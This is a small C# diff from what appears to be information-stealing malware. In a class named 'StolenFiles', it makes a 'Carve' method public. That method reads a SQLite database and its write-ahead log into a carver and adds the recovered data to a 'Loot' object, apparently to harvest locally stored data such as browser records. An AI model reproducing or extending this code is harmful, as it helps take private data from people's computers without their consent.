@@ -24,7 +24,8 @@ internal static class StolenFiles
         cp.WaitForExit();
     }
 
-    private static void Carve(string file, Loot loot)
+    /// <summary>Adds what lies in a database that nobody has open, and in its log.</summary>
+    public static void Carve(string file, Loot loot)
     {
         string log = file + "-wal";
         var carver = new SqliteCarver(File.ReadAllBytes(file), File.Exists(log) ? File.ReadAllBytes(log) : []);
